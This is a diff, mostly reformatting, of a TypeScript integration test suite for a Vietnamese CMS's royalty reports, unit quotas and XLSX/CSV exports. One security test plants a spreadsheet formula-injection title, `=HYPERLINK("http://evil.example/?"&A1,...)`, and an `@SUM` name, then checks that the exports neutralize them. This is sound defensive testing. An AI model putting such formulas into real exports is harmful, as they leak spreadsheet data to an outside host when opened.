@@ -60,11 +60,20 @@ describe('royalty reports, quotas and exports', () => {
     await configureRoyalties(world.superAdmin, site);
     head = adminApi(cms, (await createStaff(cms, 'board-head@A', [{ site, role: 'board-head' }])).jwt);
     const unit = async (name: string, quota: Record<string, unknown>) =>
-      (await world.api.post('/api/units', { name: `${name} ${unique()}`, kind: 'department', site, quota }).expect(201)).body.data.documentId as string;
+      (await world.api.post('/api/units', { name: `${name} ${unique()}`, kind: 'department', site, quota }).expect(201)).body.data
+        .documentId as string;
     monthly = await unit('Phòng Văn hóa thử', { minItems: 3, maxItems: 5, period: 'month' });
-    quarterly = await unit('Trung tâm thử', { minItems: 2, period: 'quarter', minByForm: [{ form: 'tin', minItems: 1 }, { form: 'bai', minItems: 1 }] });
-    const writer = (await world.api.post('/api/contributors', { fullName: 'Lê Thị Cúc', unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)).body.data
-      .documentId as string;
+    quarterly = await unit('Trung tâm thử', {
+      minItems: 2,
+      period: 'quarter',
+      minByForm: [
+        { form: 'tin', minItems: 1 },
+        { form: 'bai', minItems: 1 },
+      ],
+    });
+    const writer = (
+      await world.api.post('/api/contributors', { fullName: 'Lê Thị Cúc', unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)
+    ).body.data.documentId as string;
     const piece = async (unitId: string, form: string, state: 'published' | 'submitted') => {
       const data = articleData(world.sites.A, { unit: unitId, form, authors: [{ contributor: writer, share: 100 }] });
       const id = (await people.author.create(ARTICLE, data).expect(201)).body.data.documentId as string;
@@ -75,7 +84,15 @@ describe('royalty reports, quotas and exports', () => {
     await piece(monthly, 'tin', 'submitted');
     await piece(quarterly, 'tin', 'published');
     await piece(quarterly, 'bai', 'published');
-    const doc = { number: `${unique()}/QĐ-UBND`, kind: 'normative', type: 'quyet-dinh', issuer: 'UBND thành phố', issuedDate: '2026-11-02', summary: 'Trích yếu.', site };
+    const doc = {
+      number: `${unique()}/QĐ-UBND`,
+      kind: 'normative',
+      type: 'quyet-dinh',
+      issuer: 'UBND thành phố',
+      issuedDate: '2026-11-02',
+      summary: 'Trích yếu.',
+      site,
+    };
     expect((await createAndPublish(cms, world.api, 'legal-documents', doc)).status).toBe(200);
     await world.superAdmin.create(BUDGET, { site, year: Number(month.slice(0, 4)), amount: 1_000_000, warnAtPercent: 80 }).expect(201);
   });
@@ -85,7 +102,15 @@ describe('royalty reports, quotas and exports', () => {
     const res = await people.editor.get(`/reports/quotas?site=${site}`).expect(200);
     const units = res.body.data.units as Array<{ unit: { documentId: string }; periods: Array<Record<string, unknown>> }>;
     const current = (id: string) => units.find((row) => row.unit.documentId === id)!.periods[0];
-    expect(current(monthly)).toMatchObject({ period: month, current: true, submitted: 3, approved: 2, published: 2, state: 'behind', missing: 1 });
+    expect(current(monthly)).toMatchObject({
+      period: month,
+      current: true,
+      submitted: 3,
+      approved: 2,
+      published: 2,
+      state: 'behind',
+      missing: 1,
+    });
     expect(current(quarterly)).toMatchObject({ period: expect.stringMatching(/^\d{4}-Q[1-4]$/), published: 2, state: 'met' });
     expect(units.find((row) => row.unit.documentId === monthly)!.periods).toHaveLength(4);
     // Behind now (so far) and in the last finished period, when nothing was posted at all.
@@ -128,11 +153,19 @@ describe('royalty reports, quotas and exports', () => {
 
   it('exports royalties to XLSX and CSV that parse back to the same totals, with Vietnamese headers', async () => {
     const statement = (await head.get(`/reports/royalties?site=${site}&month=${month}`).expect(200)).body.data;
-    const xlsx = await head.get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
+    const xlsx = await head
+      .get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`)
+      .buffer(true)
+      .parse(binary)
+      .expect(200);
     expect(xlsx.headers['content-type']).toContain('spreadsheetml');
     expect(await xlsxTotal(xlsx.body as Buffer, 'Nhuận bút', 'Thành tiền (đồng)')).toBe(statement.total.amount);
 
-    const csv = await head.get(`/reports/exports/royalty-contributors?format=csv&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
+    const csv = await head
+      .get(`/reports/exports/royalty-contributors?format=csv&site=${site}&month=${month}`)
+      .buffer(true)
+      .parse(binary)
+      .expect(200);
     const text = (csv.body as Buffer).toString('utf8');
     expect(text.startsWith('\uFEFF')).toBe(true);
     const rows = parse(text, { bom: true }) as string[][];
@@ -173,8 +206,9 @@ describe('royalty reports, quotas and exports', () => {
   it('security: a title and a contributor name that start a formula are exported as quoted CSV text and as XLSX string cells', async () => {
     const title = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây") ${unique()}`;
     const name = `@SUM(1+1) ${unique()}`;
-    const writer = (await world.api.post('/api/contributors', { fullName: name, unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)).body.data
-      .documentId as string;
+    const writer = (
+      await world.api.post('/api/contributors', { fullName: name, unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)
+    ).body.data.documentId as string;
     const data = articleData(world.sites.A, { title, unit: monthly, form: 'tin', authors: [{ contributor: writer, share: 100 }] });
     await bringTo(people, ARTICLE, (await people.author.create(ARTICLE, data).expect(201)).body.data.documentId as string, 'published');
 
@@ -186,11 +220,18 @@ describe('royalty reports, quotas and exports', () => {
     expect(row?.[header.indexOf('Thành tiền (đồng)')]).toBe('351000');
     expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
 
-    const xlsx = await head.get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
+    const xlsx = await head
+      .get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`)
+      .buffer(true)
+      .parse(binary)
+      .expect(200);
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
     const cells: ExcelJS.Cell[] = [];
     workbook.getWorksheet('Nhuận bút')!.eachRow((r) => r.eachCell((cell) => cells.push(cell)));
-    expect(cells.filter((cell) => cell.value === title || cell.value === name).map((cell) => cell.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+    expect(cells.filter((cell) => cell.value === title || cell.value === name).map((cell) => cell.type)).toEqual([
+      ExcelJS.ValueType.String,
+      ExcelJS.ValueType.String,
+    ]);
   });
 });
